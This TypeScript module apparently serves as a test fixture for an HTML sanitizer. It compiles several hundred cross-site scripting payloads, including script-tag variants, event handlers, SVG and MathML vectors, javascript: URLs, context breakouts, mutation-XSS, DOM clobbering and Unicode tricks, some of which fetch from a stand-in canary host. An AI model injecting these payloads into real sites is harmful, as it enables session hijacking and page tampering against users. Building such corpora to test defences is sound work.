/** An address that only a planted script requests. */
export const CANARY_HOST = 'canary.example'

const RUNS = ['alert(1)', 'xss()', 'prompt`1`', 'confirm(1)', `location='//${CANARY_HOST}/l'`]
const run = (index: number) => RUNS[index % RUNS.length] ?? 'xss()'
const each = (forms: readonly string[]) =>
	forms.map((form, index) => form.replaceAll('RUN', run(index)))

const TAGS = each([
	'<script>RUN</script>',
	'<SCRIPT>RUN</SCRIPT>',
	'<ScRiPt>RUN</sCrIpT>',
	'<script >RUN</script >',
	'<script\n>RUN</script\n>',
	'<script/x>RUN</script>',
	'<script type=module>RUN</script>',
	'<script type="text/javascript">RUN</script>',
	`<script src=//${CANARY_HOST}/s.js></script>`,
	`<script src="https://${CANARY_HOST}/s.js">`,
	'<script src=data:text/javascript,RUN></script>',
	'<script nonce="">RUN</script>',
	'<script nonce=__NONCE__>RUN</script>',
	'<<script>RUN//<</script>',
	'<scr<script>ipt>RUN</scr</script>ipt>',
	'<script>RUN',
	'<script>/*</script><script>*/RUN</script>',
	'<script>eval(atob("eHNzKCk="))</script>',
	'<script>setTimeout("RUN")</script>',
	'<script>import("data:text/javascript,RUN")</script>',
	'&lt;script&gt;RUN&lt;/script&gt;',
	'&#60;script&#62;RUN&#60;/script&#62;',
	'%3Cscript%3ERUN%3C/script%3E',
	'\\u003cscript\\u003eRUN\\u003c/script\\u003e',
	'\\x3cscript\\x3eRUN\\x3c/script\\x3e',
])

const HOOKED = [
	'img src=x onerror',
	'svg onload',
	'body onload',
	'input autofocus onfocus',
	'select autofocus onfocus',
	'textarea autofocus onfocus',
	'details open ontoggle',
	'video src=x onerror',
	'audio src=x onerror',
	'video><source onerror',
	'iframe onload',
	'style onload',
	'marquee onstart',
	'object data=x onerror',
	'link rel=stylesheet href=x onerror',
	'img src=/favicon.svg onload',
	'div style=animation-name:x onanimationstart',
	'a href=# onclick',
	'p onmouseover',
	'div onpointerenter',
	'button popovertarget=x onclick',
	'form onsubmit',
	'b contenteditable onfocus tabindex=0 autofocus',
]
const HANDLERS = [
	...HOOKED.map((hooked, index) => `<${hooked}=${run(index).replaceAll(/['`]/g, '"')}>`),
	...HOOKED.map(
		(hooked, index) => `<${hooked.replaceAll(' ', '/')}="${run(index).replaceAll('"', "'")}"/>`,
	),
]

const VECTORS = each([
	'<svg><script>RUN</script></svg>',
	'<svg><script href="data:,RUN"/></svg>',
	'<svg><script>alert&#40;1)</script></svg>',
	'<svg><a xlink:href="javascript:RUN"><text x=9 y=9>a</text></a></svg>',
	'<svg><a><animate attributeName=href values=javascript:RUN /><text>a</text></a></svg>',
	'<svg><animate onbegin=RUN attributeName=x dur=1s>',
	'<svg><set onbegin=RUN attributeName=x>',
	'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN></svg>#x"/></svg>',
	'<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
	`<svg><image href=//${CANARY_HOST}/i.svg></svg>`,
	'<svg><style><img src=x onerror=RUN></style></svg>',
	'<svg><title><img src=x onerror=RUN></title></svg>',
	'<math><mi xlink:href="javascript:RUN">a</mi></math>',
	'<math href="javascript:RUN">a</math>',
])

const ADDRESSES = each([
	'javascript:RUN',
	'JaVaScRiPt:RUN',
	'java\tscript:RUN',
	'java\nscript:RUN',
	'javascript&colon;RUN',
	'javascript%3ARUN',
	'&#106;avascript:RUN',
	'&#x6A;&#x61;vascript:RUN',
	' javascript:RUN',
	'javascript://example.com/%0aRUN',
	'javascript:/*-->*/RUN',
	'https://example.com/javascript:RUN',
	'https://javascript:RUN@example.com/',
	'https://example.com/"onmouseover="RUN',
	"https://example.com/'onmouseover='RUN",
	'https://example.com/<script>RUN</script>',
	'https://example.com/?a="><img/src=x/onerror=RUN>',
	'https://example.com/`onmouseover=`RUN',
	'http://"><svg/onload=RUN>',
	'vbscript:RUN',
	'data:text/html,<script>RUN</script>',
	'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
	'data:image/svg+xml,<svg onload=RUN>',
	'blob:https://example.com/RUN',
	'[a](javascript:RUN)',
	'[a](data:text/html,<script>RUN</script>)',
	'![a](x"onerror="RUN)',
	'[a](https://example.com "onmouseover="RUN")',
	'<javascript:RUN>',
	'<a href=javascript:RUN>a</a>',
	'<a href="&#1;javascript:RUN">a</a>',
	'<a href="java&Tab;script:RUN" target=_blank>a</a>',
	'@ada"onmouseover="RUN',
	'#tag<img src=x onerror=RUN>',
	'$STAGE"><svg/onload=RUN>',
])

const BREAKOUTS = each([
	'"><img src=x onerror=RUN>',
	"'><img src=x onerror=RUN>",
	'`><img src=x onerror=RUN>',
	'" onmouseover="RUN" a="',
	"' autofocus onfocus='RUN' a='",
	'" style="animation:x" onanimationstart="RUN',
	'</script><script>RUN</script>',
	'</SCRIPT ><img src=x onerror=RUN>',
	'<!--<script>RUN//',
	'<!--<script></script>--><script>RUN</script>',
	'--><script>RUN</script>',
	'--!><img src=x onerror=RUN>',
	']]><script>RUN</script>',
	'</title><script>RUN</script>',
	'</textarea><script>RUN</script>',
	'</style><script>RUN</script>',
	'</noscript><img src=x onerror=RUN>',
	'</template><img src=x onerror=RUN>',
	'</select><svg onload=RUN>',
	'</bdi></p></div><img src=x onerror=RUN>',
	'";RUN;"',
	"';RUN;'",
	'\\";RUN;//',
	'"}};RUN;({"a":{"b":"',
	'\u2028RUN\u2029',
	'"\u2028;RUN//',
	'*/RUN/*',
	'{{constructor.constructor("RUN")()}}',
	'<%= RUN %>',
	'#{RUN}',
	'{"__html":"<img src=x onerror=RUN>"}',
	'{"$$typeof":"react.element","type":"script","props":{"children":"RUN"}}',
])

const PAGES = each([
	'<iframe srcdoc="<script>parent.xss()</script>">',
	'<iframe srcdoc=&lt;img/src=x/onerror=parent.xss()&gt;>',
	'<iframe src="javascript:parent.xss()">',
	`<iframe src=//${CANARY_HOST}/f>`,
	'<object data="javascript:RUN">',
	`<object data=//${CANARY_HOST}/o>`,
	`<embed src=//${CANARY_HOST}/e>`,
	'<embed src="javascript:RUN">',
	`<meta http-equiv=refresh content="0;url=//${CANARY_HOST}/m">`,
	'<meta http-equiv=refresh content="0;url=javascript:RUN">',
	`<base href=//${CANARY_HOST}/>`,
	`<link rel=stylesheet href=//${CANARY_HOST}/c.css>`,
	`<link rel=prefetch href=//${CANARY_HOST}/p>`,
	`<form action=//${CANARY_HOST}/><input name=a><button autofocus>a</button></form>`,
	'<button formaction="javascript:RUN">a</button>',
	`<img src=//${CANARY_HOST}/i.png>`,
	`<img srcset="//${CANARY_HOST}/i.png 1x">`,
	`<video poster=//${CANARY_HOST}/v></video>`,
])

const STYLES = each([
	`<style>@import "//${CANARY_HOST}/a.css";</style>`,
	`<style>*{background:url(//${CANARY_HOST}/b)}</style>`,
	`<p style="background:url(//${CANARY_HOST}/c)">a</p>`,
	'<p style="width:expression(RUN)">a</p>',
	`<p style="position:fixed;inset:0;z-index:9">a</p>`,
	`"style="background:url(//${CANARY_HOST}/d)`,
	'x{} </style><svg onload=RUN>',
])

const MUTATIONS = each([
	'<noscript><p title="</noscript><img src=x onerror=RUN>">',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
	'<svg></p><style><a title="</style><img src=x onerror=RUN>">',
	'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
	'<template><script>RUN</script></template>',
	'<listing>&lt;img src=x onerror=RUN&gt;</listing>',
	'<xmp><p title="</xmp><img src=x onerror=RUN>">',
	'<table><td><svg onload=RUN></table>',
	'<img name=getElementById>',
	'<form id=documentElement><input name=attributes></form>',
	'<a id=__remixContext></a><a id=__remixContext name=state>',
	'<form name=body><input id=children></form>',
	'<img id=currentScript src=data:,RUN>',
])

const SIGNS = each([
	'＜script＞RUN＜/script＞',
	'﹤img src=x onerror=RUN﹥',
	'<\u200bscript>RUN</script>',
	'<scr\u00adipt>RUN</script>',
	'\u202e>tpircs/<RUN>tpircs<',
	'<script\u2003>RUN</script>',
	'\ufeff<script>RUN</script>',
	'<ſcript>RUN</ſcript>',
	'<img src=x onerror=\u0061lert(1)>',
	'ʺ><svg onload=RUN>',
	'<svg\u00a0onload=RUN>',
	'<İmg src=x onerror=RUN>',
	'\u2066<img src=x onerror=RUN>\u2069',
	'<img src=x\u3000onerror=RUN>',
])

export const SCRIPTS: readonly string[] = [
	...TAGS,
	...HANDLERS,
	...VECTORS,
	...ADDRESSES,
	...BREAKOUTS,
	...PAGES,
	...STYLES,
	...MUTATIONS,
	...SIGNS,
]

/** Puts as many of them as fit into one text, so that few texts hold all. */
export function packed(maxChars: number, texts: readonly string[] = SCRIPTS): string[] {
	const packs: string[] = []
	let pack = ''
	for (const text of texts) {
		if (text.length > maxChars) continue
		if (pack && pack.length + 1 + text.length > maxChars) {
			packs.push(pack)
			pack = ''
		}
		pack += pack ? `\n${text}` : text
	}
	return pack ? [...packs, pack] : packs
}
